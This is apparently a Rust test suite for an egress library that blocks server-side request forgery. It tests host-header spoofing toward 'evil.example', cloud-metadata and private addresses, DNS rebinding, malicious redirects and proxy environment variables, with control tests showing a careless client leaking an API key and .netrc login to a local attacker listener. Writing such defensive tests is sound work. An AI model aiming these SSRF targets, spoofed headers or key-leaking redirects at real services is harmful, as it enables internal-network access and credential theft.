//! Where a request may end up: B1, B2, B5 to B9.

use std::time::Duration;

use http::Request;
use keyward_egress::{EgressError, Network, Roots, Route, Stage};
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;

use crate::careless;
use crate::common::{Authority, KEY, World, get, read, route_name};
use crate::wire::{Answer, Answers, Collaborator, Diverted, Wire, diverted, last, ok};

/// A request that names the attacker in every place where a request can name a host.
fn astray(attacker: &str) -> Request<keyward_egress::Body> {
    Request::get(format!("http://{attacker}/charges"))
        .header("host", attacker)
        .header("x-forwarded-host", attacker)
        .header("x-host", attacker)
        .header("forwarded", format!("host={attacker}"))
        .header("x-original-host", attacker)
        .body(keyward_egress::empty())
        .unwrap()
}

#[tokio::test]
async fn a_request_reaches_only_the_host_of_its_route() {
    let backend = Wire::start(|_| ok("")).await;
    let attacker = Collaborator::start().await;
    let world = World::new();
    let egress = world.egress(backend.route());
    let request = astray(&attacker.address.to_string());
    world.send_attached(&egress, request).await.unwrap();
    assert_eq!(attacker.saw(), (0, 0));
    let seen = backend.captured().remove(0);
    assert_eq!(seen.line(), "GET /charges HTTP/1.1");
    assert_eq!(seen.values("x-original-host"), [""; 0]);
}

#[tokio::test]
async fn control_a_route_to_the_attacker_reaches_it() {
    let mut attacker = Collaborator::start().await;
    let world = World::new();
    let url = format!("http://{}", attacker.address);
    let egress = world.egress(Route::new(route_name(), &url).unwrap());
    tokio::select! {
        _ = world.send_attached(&egress, get("/charges")) => {}
        () = attacker.first_byte() => {}
    }
    assert!(attacker.saw().1 > 0);
}

const PUBLIC: &str = "93.184.216.34";

#[tokio::test]
async fn host_and_server_name_are_the_routes() {
    let authority = Authority::new();
    let tls = authority.server("billing.example.com", &["http/1.1"]);
    let backend = Wire::with_tls(Some(tls), |_| ok("")).await;
    let world = World::new();
    let route = Route::new(route_name(), "https://Billing.Example.com:8443/")
        .unwrap()
        .with_roots(Roots::Pem(authority.pem()));
    let connector = Diverted::new(backend.address);
    let resolver = Answers::new([&[PUBLIC][..]]);
    let egress = diverted(&world, [route], resolver, connector);
    let request = astray("evil.example");
    world.send_attached(&egress, request).await.unwrap();
    let seen = backend.captured().remove(0);
    assert_eq!(seen.tls.server_name.as_deref(), Some("billing.example.com"));
    assert_eq!(seen.values("host"), ["billing.example.com:8443"]);
    assert_eq!(seen.line(), "GET /charges HTTP/1.1");
}

#[tokio::test]
async fn control_the_wire_shows_another_host() {
    let mut backend = Wire::start(|_| Answer::Last(Vec::new())).await;
    let mut stream = TcpStream::connect(backend.address).await.unwrap();
    let head = b"GET http://evil.example/ HTTP/1.1\r\nhost: evil.example\r\n\r\n";
    stream.write_all(head).await.unwrap();
    backend.ended(1).await;
    let seen = backend.captured().remove(0);
    assert_eq!(seen.values("host"), ["evil.example"]);
    assert_eq!(seen.line(), "GET http://evil.example/ HTTP/1.1");
}

/// A TLS route by name, whose addresses come from a resolver and lead to a backend.
struct Named {
    world: World,
    authority: Authority,
    backend: Wire,
}

impl Named {
    async fn new() -> Self {
        let authority = Authority::new();
        let tls = authority.server("billing.example.com", &["http/1.1"]);
        Self {
            world: World::new(),
            authority,
            // Closed after each answer, so that each request looks the name up.
            backend: Wire::with_tls(Some(tls), |_| last("")).await,
        }
    }

    fn route(&self) -> Route {
        Route::new(route_name(), "https://billing.example.com")
            .unwrap()
            .with_roots(Roots::Pem(self.authority.pem()))
    }

    /// Sends that many requests; what became of each, and which addresses were
    /// dialled.
    async fn send(
        &self,
        route: Route,
        answers: &[&[&str]],
        requests: usize,
    ) -> (Vec<Option<EgressError>>, Vec<String>) {
        let connector = Diverted::new(self.backend.address);
        let resolver = Answers::new(answers.iter().copied());
        let egress = diverted(&self.world, [route], resolver, connector.clone());
        let mut outcomes = Vec::new();
        for _ in 0..requests {
            let sent = self.world.send_attached(&egress, get("/charges")).await;
            match sent {
                Ok(response) => {
                    read(response).await;
                    outcomes.push(None);
                }
                Err(error) => outcomes.push(Some(error)),
            }
        }
        let asked = connector.asked().iter().map(ToString::to_string).collect();
        (outcomes, asked)
    }
}

/// Special addresses, each in the spellings in which a resolver may hide it.
const SPECIAL: [&str; 20] = [
    "127.0.0.1",
    "0.0.0.0",
    "10.0.0.1",
    "172.16.0.1",
    "192.168.0.1",
    "100.64.0.1",
    "169.254.169.254",
    "168.63.129.16",
    "100.100.100.200",
    "::1",
    "::",
    "::ffff:127.0.0.1",
    "::ffff:169.254.169.254",
    "64:ff9b::a9fe:a9fe",
    "64:ff9b::7f00:1",
    "2002:7f00:1::1",
    "fd00:ec2::254",
    "fc00::1",
    "fe80::1",
    "ff02::1",
];

#[tokio::test]
async fn a_name_leads_to_no_special_address() {
    let named = Named::new().await;
    for address in SPECIAL {
        let (outcomes, asked) = named.send(named.route(), &[&[address]], 1).await;
        let refused = EgressError::Unreachable(Stage::Network);
        assert_eq!(outcomes, [Some(refused)], "{address}");
        assert_eq!(asked, [""; 0], "{address}");
        // Beside one that is allowed, that one alone is dialled.
        let (outcomes, asked) = named.send(named.route(), &[&[address, PUBLIC]], 1).await;
        assert_eq!(outcomes, [None], "{address}");
        assert_eq!(asked, [PUBLIC], "{address}");
    }
}

#[tokio::test]
async fn control_a_route_that_allows_them_leads_to_special_addresses() {
    let named = Named::new().await;
    for (address, network, dialled) in [
        ("127.0.0.1", "loopback", "127.0.0.1"),
        ("::ffff:127.0.0.1", "loopback", "127.0.0.1"),
        ("10.0.0.1", "private", "10.0.0.1"),
        ("100.64.0.1", "100.64.0.0/10", "100.64.0.1"),
        ("169.254.169.254", "169.254.169.254/32", "169.254.169.254"),
        ("fd00:ec2::254", "fd00:ec2::254/128", "fd00:ec2::254"),
    ] {
        let route = named.route().with_networks([network.parse().unwrap()]);
        let (outcomes, asked) = named.send(route, &[&[address]], 1).await;
        assert_eq!(outcomes, [None], "{address}");
        assert_eq!(asked, [dialled], "{address}");
    }
}

const REBINDING: [&[&str]; 4] = [
    &[PUBLIC],
    &["127.0.0.1"],
    &["10.0.0.1", "::ffff:127.0.0.1", "169.254.169.254"],
    &["127.0.0.1", PUBLIC],
];

#[tokio::test]
async fn a_name_that_changes_its_address_never_leads_inside() {
    let named = Named::new().await;
    let (outcomes, asked) = named.send(named.route(), &REBINDING, 4).await;
    let refused = Some(EgressError::Unreachable(Stage::Network));
    assert_eq!(outcomes, [None, refused, refused, None]);
    assert_eq!(asked, [PUBLIC, PUBLIC]);
}

#[tokio::test]
async fn control_without_vetting_the_same_answers_lead_inside() {
    let named = Named::new().await;
    let all = ["0.0.0.0/0", "::/0", "169.254.169.254/32"];
    let networks: Vec<Network> = all.iter().map(|text| text.parse().unwrap()).collect();
    let route = named.route().with_networks(networks);
    let (outcomes, asked) = named.send(route, &REBINDING, 4).await;
    assert_eq!(outcomes, [None; 4]);
    assert_eq!(asked, [PUBLIC, "127.0.0.1", "10.0.0.1", "127.0.0.1"]);
}

#[tokio::test]
async fn an_address_that_shows_no_certificate_for_the_name_gets_nothing() {
    // What vetting lets pass still has to prove who it is.
    let named = Named::new().await;
    let elsewhere = Authority::new().server("billing.example.com", &["http/1.1"]);
    let impostor = Wire::with_tls(Some(elsewhere), |_| ok("")).await;
    let resolver = Answers::new([&[PUBLIC][..]]);
    let connector = Diverted::new(impostor.address);
    let egress = diverted(&named.world, [named.route()], resolver, connector);
    let sent = named.world.send_attached(&egress, get("/charges")).await;
    assert_eq!(sent.err(), Some(EgressError::Unreachable(Stage::Tls)));
    assert!(impostor.captured().is_empty());
}

#[tokio::test]
async fn every_vetted_address_is_tried_in_turn() {
    let world = World::new();
    let backend = Wire::start(|_| ok("there")).await;
    // Nobody listens on the first.
    let url = format!("http://localhost:{}", backend.address.port());
    let route = Route::new(route_name(), &url).unwrap();
    let dialer = keyward_egress::Dialer {
        resolver: Answers::new([&["127.0.0.2", "10.0.0.1", "127.0.0.1"][..]]),
        ..Default::default()
    };
    let vault = std::sync::Arc::clone(&world.vault);
    let egress = keyward_egress::Egress::with_dialer([route], vault, dialer).unwrap();
    let response = world.send_attached(&egress, get("/charges")).await.unwrap();
    assert_eq!(read(response).await.0, b"there");
}

#[tokio::test]
async fn a_platforms_own_address_takes_a_word_of_the_operator() {
    let world = World::new();
    for (url, exact) in [
        ("https://169.254.169.254", "169.254.169.254/32"),
        ("https://168.63.129.16", "168.63.129.16/32"),
        ("https://100.100.100.200", "100.100.100.200/32"),
        ("https://[fd00:ec2::254]", "fd00:ec2::254/128"),
        ("https://[::ffff:169.254.169.254]", "169.254.169.254/32"),
        ("https://[fe80::1]", "fe80::1/128"),
    ] {
        let backend = Collaborator::start().await;
        let connector = Diverted::new(backend.address);
        let send = async |route: Route, patience| {
            let resolver = Answers::new([&[PUBLIC][..]]);
            let egress = diverted(&world, [route], resolver, connector.clone());
            let sent = world.send_attached(&egress, get("/charges"));
            tokio::time::timeout(patience, sent).await.ok()
        };
        let route = Route::new(route_name(), url)
            .unwrap()
            .with_roots(Roots::Pem(Authority::new().pem()));
        assert!(route.is_out_of_reach(), "{url}");
        let wide = [Network::Public, Network::Private, Network::Loopback];
        for route in [route.clone(), route.clone().with_networks(wide)] {
            let sent = send(route, Duration::from_secs(30)).await.unwrap();
            let refused = EgressError::Unreachable(Stage::Network);
            assert_eq!(sent.err(), Some(refused), "{url}");
        }
        assert_eq!(backend.saw(), (0, 0), "{url}");
        // Control: with the word, it is dialled.
        let route = route.with_networks([exact.parse().unwrap()]);
        assert!(!route.is_out_of_reach(), "{url}");
        let dialled = async {
            while connector.asked().is_empty() {
                tokio::task::yield_now().await;
            }
        };
        // The collaborator speaks no TLS: what counts is whether it was dialled.
        tokio::select! {
            _ = send(route, Duration::from_secs(30)) => {}
            () = dialled => {}
        }
        assert_eq!(connector.asked().len(), 1, "{url}");
    }
}

#[tokio::test]
async fn no_redirect_is_followed() {
    let attacker = Collaborator::start().await;
    let world = World::new();
    for status in ELSEWHERE {
        let answer = elsewhere(status, attacker.address, &WAYS);
        let backend = Wire::start(move |_| Answer::Bytes(answer.clone().into_bytes())).await;
        // To another host, to this one, to this one in the clear: an answer like any.
        let egress = world.egress(backend.route());
        for _ in 0..2 {
            let response = world.send_attached(&egress, get("/charges")).await.unwrap();
            assert_eq!(response.status().as_u16(), status);
            read(response).await;
        }
        let seen = backend.captured();
        assert_eq!(seen.len(), 2, "{status}");
        assert!(
            seen.iter()
                .all(|seen| seen.line() == "GET /charges HTTP/1.1")
        );
        assert!(
            seen.iter()
                .all(|seen| seen.values("authorization").is_empty())
        );
    }
    assert_eq!(attacker.saw(), (0, 0));
}

#[tokio::test]
async fn control_a_client_that_follows_takes_the_key_along() {
    for status in ELSEWHERE {
        for way in WAYS {
            let mut attacker = Collaborator::start().await;
            let answer = elsewhere(status, attacker.address, &[way]);
            let backend = Wire::start(move |_| Answer::Bytes(answer.clone().into_bytes())).await;
            let host = backend.address.to_string();
            let headers = careless::with_key(KEY);
            tokio::select! {
                // The attacker doesn't answer.
                _ = careless::get(&host, "/charges", &headers) => panic!("{status} {way}: not followed"),
                () = attacker.got(KEY) => {}
            }
        }
    }
}

const ELSEWHERE: [u16; 9] = [300, 301, 302, 303, 307, 308, 401, 407, 421];

/// The headers by which an answer leads elsewhere.
const WAYS: [&str; 3] = [
    "location: http://THERE/charges",
    "refresh: 0; url=http://THERE/",
    "alt-svc: h2=\"THERE\"",
];

/// An answer that leads to an address in these ways, and asks for a login.
fn elsewhere(status: u16, there: std::net::SocketAddr, ways: &[&str]) -> String {
    let ways = ways.join("\r\n").replace("THERE", &there.to_string());
    format!(
        "HTTP/1.1 {status} Elsewhere\r\n{ways}\r\nwww-authenticate: Basic realm=\"x\", Negotiate\r\nproxy-authenticate: NTLM\r\nlink: <http://{there}/>; rel=preload\r\ncontent-location: http://{there}/\r\ncontent-length: 0\r\n\r\n"
    )
}

/// Environment variables that HTTP clients take for a way out.
const PROXIES: [&str; 8] = [
    "HTTP_PROXY",
    "http_proxy",
    "HTTPS_PROXY",
    "https_proxy",
    "ALL_PROXY",
    "all_proxy",
    "CURL_HOME",
    "SSL_CERT_FILE_PROXY",
];

/// A test of this file as a process of its own, whose environment names a proxy and
/// a login for every host.
fn another_process(
    test: &str,
    backend: &Wire,
    proxy: Option<&Collaborator>,
    home: &std::path::Path,
) -> tokio::process::Command {
    let netrc = "machine 127.0.0.1 login a password b\ndefault login a password b\n";
    std::fs::write(home.join(".netrc"), netrc).unwrap();
    let mut command = tokio::process::Command::new(std::env::current_exe().unwrap());
    command
        .args(["--exact", test, "--ignored"])
        .env("BACKEND", backend.address.to_string())
        .env("NO_PROXY", "")
        .env("NETRC", home.join(".netrc"))
        .env("HOME", home)
        .kill_on_drop(true);
    for name in PROXIES {
        match proxy {
            Some(proxy) => command.env(name, format!("http://{}", proxy.address)),
            None => command.env_remove(name),
        };
    }
    command
}

#[tokio::test]
async fn nothing_in_the_environment_is_a_way_out() {
    let proxy = Collaborator::start().await;
    let backend = Wire::start(|_| ok("")).await;
    let home = tempfile::tempdir().unwrap();
    let test = "destination::sends_from_another_process";
    let mut command = another_process(test, &backend, Some(&proxy), home.path());
    let output = command.output().await.unwrap();
    assert!(output.status.success(), "{output:?}");
    let seen = backend.captured();
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].line(), "GET /charges HTTP/1.1");
    assert!(seen[0].values("authorization").is_empty());
    assert_eq!(proxy.saw(), (0, 0));
}

#[tokio::test]
async fn control_a_client_that_asks_the_environment_gives_the_proxy_the_key_and_backends_a_login() {
    let home = tempfile::tempdir().unwrap();
    let test = "destination::sends_carelessly_from_another_process";
    let mut proxy = Collaborator::start().await;
    let backend = Wire::start(|_| ok("")).await;
    let mut command = another_process(test, &backend, Some(&proxy), home.path());
    tokio::select! {
        // The proxy doesn't answer.
        output = command.output() => panic!("{output:?}"),
        () = proxy.got(KEY) => {}
    }
    assert!(proxy.text().starts_with("GET http://"), "{}", proxy.text());
    let challenge =
        b"HTTP/1.1 401 Who\r\nwww-authenticate: Basic realm=\"x\"\r\ncontent-length: 0\r\n\r\n";
    let backend = Wire::start(|_| Answer::Bytes(challenge.to_vec())).await;
    let mut command = another_process(test, &backend, None, home.path());
    let output = command.output().await.unwrap();
    assert!(output.status.success(), "{output:?}");
    let seen = backend.captured();
    assert!(seen[0].values("authorization").is_empty());
    assert_eq!(seen[1].values("authorization"), ["Basic YTpi"]);
}

#[tokio::test]
#[ignore = "a process that another test starts"]
async fn sends_carelessly_from_another_process() {
    let backend = std::env::var("BACKEND").unwrap();
    careless::get(&backend, "/charges", &careless::with_key(KEY)).await;
}

#[tokio::test]
#[ignore = "a process that another test starts"]
async fn sends_from_another_process() {
    assert!(PROXIES.iter().all(|name| std::env::var_os(name).is_some()));
    let url = format!("http://{}", std::env::var("BACKEND").unwrap());
    let world = World::new();
    let egress = world.egress(Route::new(route_name(), &url).unwrap());
    world.send_attached(&egress, get("/charges")).await.unwrap();
}
